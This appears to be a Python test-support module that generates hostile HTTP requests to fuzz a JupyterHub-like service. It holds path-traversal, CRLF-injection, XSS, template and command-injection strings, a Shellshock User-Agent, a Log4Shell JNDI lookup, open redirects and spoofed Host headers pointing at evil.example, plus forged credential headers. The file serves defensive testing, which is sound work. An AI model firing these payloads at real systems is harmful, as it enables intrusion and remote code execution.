"""Bad request lines, paths and headers."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from tests.support.hostile.attack import Attack, Secrets, Target, raw, request

METHODS: Final = (
    "HEAD POST PUT PATCH DELETE OPTIONS TRACE CONNECT PROPFIND MKCOL SEARCH PURGE LINK get Post BREW X-Y "
    "G" + "E" * 300 + "T"
).split()

TAILS: Final = (
    "/", "//", "/.", "/./", "/..", "/../", "/../../../../../../etc/passwd", "/..;/", "/%2e%2e/%2e%2e/etc/passwd",
    "/..%2f..%2f..%2fetc%2fpasswd", "/%252e%252e%252f", "/..%5c..%5cetc", "/..\\..\\etc", "/%c0%ae%c0%ae/", "/%u002e/",
    "/%00", "/a%00b", "/%", "/%2", "/%zz", "/%ff%fe", "/\xff\xfe", "/%ed%a0%80", "/%0d%0aX-Injected:%20yes", "/%0a",
    "/%09", "/%20", "/%7f", "/%1b[31m", "/;a=b", "/a;b", "/%3b", "/%3f", "/%23", "/%26", "/%3c%73cript%3e", "/<b>",
    '/"', "/'", "/`id`", "/$(id)", "/{{7*7}}", "/%7b%7b7*7%7d%7d", "/{a}", "/*", "/a" * 500, "/" + "a" * 300,
    "/" + "a" * 7000, "/" + "%41" * 2000, "/" + "../" * 1000, "/é", "/%e6%97%a5", "/%F0%9F%92%A5",
    "/.git/config", "/.env", "/wp-login.php", "/CON", "/nul", "/~root", "/-rf", "/1e999", "/-1", "/99999999999999999999",
)  # fmt: skip

QUERIES: Final = (
    "?", "??", "?&", "?=", "?a", "?a=%", "?a=%zz", "?a=%00", "?a=%ff", "?a=\xff", "?a[]=1&a[x]=2", "?" + "a=1&" * 2000,
    "?a=" + "b" * 7000, "?limit=-1", "?limit=1e999", "?limit=99999999999999999999999", "?offset=-1", "?offset=NaN",
    "?offset=%00", "?page=%F0%9F%92%A5", "?next=//evil.example/", "?next=https:evil.example", "?next=%00",
    "?next=javascript:alert(1)", "?next=/%09/evil.example", "?next=%ff", "?download=%00", "?download=zip&download=tar",
    "?ref=..%2f..%2f", "?ref=-rf", "?since=0000-00-00", "?since=99999-12-31T99:99", "?sort=%27;--", "?include_stopped_servers=x",
    "?state=%00", "?state=%ff", "?_xsrf=%00", "?count=-5", "?from=nan&to=inf", "?phase=%00", "?after=%f0%28%8c%28",
)  # fmt: skip

HEADERS: Final = (
    "Host: evil.example", "Host:", "Host: a b", "Host: [::1", "Host: x:99999", "Host: \xff", "Host: " + "a" * 300,
    "X-Forwarded-Host: evil.example", "X-Forwarded-Host: \xff", "X-Forwarded-Proto: gopher", "X-Forwarded-Proto: https,http",
    "X-Forwarded-Proto: " + "h" * 3000, "X-Forwarded-Proto: \xff", "X-Forwarded-For: not-an-address",
    "X-Forwarded-For: 1.2.3.4, ::1, \xff", "X-Forwarded-For: " + "1.1.1.1," * 700, "X-Forwarded-For: [::1]:x", "X-Forwarded-Port: -1",
    "X-Forwarded-Prefix: /../..", "X-Forwarded-Uri: /hub/admin", "X-Forwarded-Server: \x01", "X-Real-Ip: x", "Forwarded: for=;;",
    "X-Original-Url: /hub/admin", "X-Rewrite-Url: /hub/admin", "X-Http-Method-Override: DELETE", "X-Scheme: \xff",
    "Origin: null", "Origin: https://evil.example", "Origin: \xff", "Origin:", "Referer: \xff\xfe", "Referer: " + "r" * 7000,
    "Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Site: \xff", "Accept: text/html;q=x,*/*;q=99",
    "Accept: " + "a/b," * 1500, "Accept: \xff", "Accept-Language: " + "x-" * 900, "Accept-Language: \xff", "Accept-Encoding: bogus;q=-1",
    "Accept-Charset: utf-7", "Range: bytes=abc", "Range: bytes=-", "Range: bytes=5-1", "Range: bytes=0-99999999999999999999",
    "Range: bytes=" + "0-0," * 1000, "Range: lines=1-2", "Range: bytes=\xff", "If-Match: \xff", 'If-Match: "', "If-None-Match: W/" + "x" * 3000,
    "If-Modified-Since: yesterday", "If-Modified-Since: Thu, 99 Foo 99999 99:99:99 GMT", "If-Unmodified-Since: -1", "If-Range: \x7f",
    "Expect: 100-continue", "Expect: the-inquisition", "Upgrade: h2c", "Upgrade: TLS/1.0", "HTTP2-Settings: AAMAAABkAAQAAP__",
    "Content-Length: 0", "Content-Type: \xff", "Content-Type: application/json; charset=utf-7", "Content-Encoding: gzip",
    "Max-Forwards: -1", "TE: trailers, \xff", "Cache-Control: \x01", "User-Agent: () { :;}; /bin/id", "User-Agent: ${jndi:ldap://x/a}",
    "User-Agent: \xf0\x9f\x92\xa5", "User-Agent: " + "u" * 7000, "Via: " + "1.1 x," * 500, "X-Request-Id: \x1b[31m", "Purpose: \xe2\x80\xae",
    "Prefer: respond-async, wait=\xff", "Date: never", "From: \xff", "X-" + "y" * 2000 + ": z",
)  # fmt: skip

MALFORMED: Final = (
    "GET\r\n\r\n", "GET /\r\n\r\n", "GET  / HTTP/1.1\r\nHost: x\r\n\r\n", "GET / HTTP/9.9\r\nHost: x\r\n\r\n", "GET / HTTP/1.1\r\n\r\n",
    "GET / http/1.1\r\nHost: x\r\n\r\n", "GET / HTTP/1.1\nHost: x\n\n", "GET / HTTP/1.1\r\nHost: x\r\nNo colon\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: x\r\n: empty\r\n\r\n", "GET / HTTP/1.1\r\nHost: x\r\nBad Name: y\r\n\r\n", "GET / HTTP/1.1\r\nHost : x\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: x\r\nFolded: a\r\n b\r\n\r\n", "GET / HTTP/1.1\r\n Host: x\r\n\r\n", "GET / HTTP/1.1\r\nHost: x\r\nA: \x00\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n", "GET / HTTP/1.1\r\nHost: x\rY: z\r\n\r\n", "\r\n\r\n", "\x00" * 100, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "\xff" * 2000, "GET http://evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET http://evil.example:99999/ HTTP/1.1\r\nHost: x\r\n\r\n", "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
    "OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n", "GET * HTTP/1.1\r\nHost: x\r\n\r\n", "GET hub/login HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET /" + "a" * 70_000 + " HTTP/1.1\r\nHost: x\r\n\r\n", "GET / HTTP/1.1\r\nHost: x\r\nX: " + "a" * 70_000 + "\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: x\r\n" + "X: y\r\n" * 3000 + "\r\n", "GET / HTTP/1.1\r\nHost: x\r\nX: unfinished", "GET /\x00 HTTP/1.1\r\nHost: x\r\n\r\n",
    "HELO x\r\n", "SSH-2.0-x\r\n", "*1\r\n$4\r\nPING\r\n",
)  # fmt: skip


def lines(target: Target) -> Iterator[Attack]:
    """Vary method, path and query."""
    first = target.paths[0]
    for path in target.paths:
        for method in METHODS[:6] if path != first else METHODS:
            yield request(target, f"{method} {path} HTTP/1.1", kind=f"method {method[:12]}")
    for number, tail in enumerate(TAILS):
        path = target.paths[number % len(target.paths)]
        yield request(target, f"GET {path.rstrip('/')}{tail} HTTP/1.1", kind=f"path {tail[:24]!r}")
    for number, query in enumerate(QUERIES):
        path = target.paths[number % len(target.paths)]
        yield request(target, f"GET {path}{query} HTTP/1.1", kind=f"query {query[:24]!r}")


def headers(target: Target, secrets: Secrets) -> Iterator[Attack]:
    """Vary headers, credentials and what is no HTTP at all."""
    for number, header in enumerate(HEADERS):
        path = target.paths[number % len(target.paths)]
        yield request(target, f"GET {path} HTTP/1.1", header, kind=f"header {header[:32]!r}")
    for header in _credentials(secrets):
        yield request(target, f"GET {target.paths[0]} HTTP/1.1", header, kind=f"credentials {header[:32]!r}")
        yield request(
            target, f"POST {target.paths[-1]} HTTP/1.1", header, body=b"{}", kind=f"credentials {header[:32]!r}"
        )
    for name in ("token", "password", "api_key", "access_token", "code", "_xsrf", "client_secret", "apikey", "jwt"):
        path = f"{target.paths[0]}?{name}={secrets.word('query' + name.replace('_', ''))}"
        yield request(target, f"GET {path} HTTP/1.1", kind=f"secret in query {name}")
    for text in MALFORMED:
        yield raw(f"malformed {text[:40]!r}", text)


def _credentials(secrets: Secrets) -> tuple[str, ...]:
    return (
        f"Authorization: token {secrets.word('token')}",
        f"Authorization: Bearer {secrets.word('bearer')}",
        f"Authorization: Basic {secrets.word('basic')}",
        f"Authorization: Digest username={secrets.word('digest')}",
        f"Authorization: token {secrets.word('longtoken')}" + "x" * 5000,
        f"Authorization: token \xff{secrets.word('bytestoken')}",
        f"Authorization: token\x01 {secrets.word('controltoken')}",
        f"Authorization: {secrets.word('barewords')}",
        "Authorization:",
        f"Cookie: jupyterhub-session-id={secrets.word('sessioncookie')}; jupyterhub-hub-login={secrets.word('logincookie')}",
        f"Cookie: twinhub-session={secrets.word('pagescookie')}",
        f"Cookie: twinhub-session=gAAAAA{secrets.word('fernetcookie')}; twinhub-signin={secrets.word('signincookie')}",
        f'Cookie: twinhub-session="{secrets.word("quotedcookie")}',
        f"Cookie: _xsrf={secrets.word('xsrfcookie')}; _xsrf=2|1|2|3",
        f"Cookie: {secrets.word('nakedcookie')}",
        "Cookie: =;;=; a; \xff=\xff; twinhub-session=\xff",
        "Cookie: " + "a=b; " * 1500,
        f"Cookie: jupyterhub-hub-login=2|1:0|10:99999999999|19:x|{secrets.word('forgedcookie')}|",
        f"X-XSRFToken: {secrets.word('xsrfheader')}",
        f"X-Twinhub-Xsrf: {secrets.word('ownxsrfheader')}",
        f"Proxy-Authorization: Basic {secrets.word('proxy')}",
        f"Private-Token: {secrets.word('gitlab')}",
        f"Referer: http://x/hub/login?token={secrets.word('referer')}",
    )
